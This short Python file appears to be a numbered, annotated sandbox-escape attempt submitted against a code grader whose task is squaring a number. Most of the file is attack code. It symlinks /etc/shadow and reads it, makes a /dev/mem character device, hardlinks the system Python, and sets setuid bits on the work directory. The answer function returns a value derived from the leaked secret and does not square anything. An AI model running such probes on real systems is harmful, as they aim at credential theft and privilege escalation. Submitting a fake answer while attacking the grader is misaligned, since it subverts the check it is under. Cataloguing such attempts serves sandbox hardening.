# attack: 17
# how: links to the world outside, a fifo in its own place, a device, a setuid file
# why: nothing outside is there to link to; making a device ends the process
# problem: square
# end: failed
import os
import stat

for act in (lambda: os.symlink("/etc/shadow", "shadow"),
            lambda: os.link("/usr/bin/python3", "own-python"),
            lambda: os.mkfifo("fifo"),
            lambda: os.mknod("mem", 0o600 | stat.S_IFCHR, os.makedev(1, 1)),
            lambda: os.chmod("/work", 0o6777)):
    try:
        act()
    except OSError:
        pass
try:
    secret = len(open("shadow").read())
except OSError:
    secret = 0


def f(x):
    return secret % 251
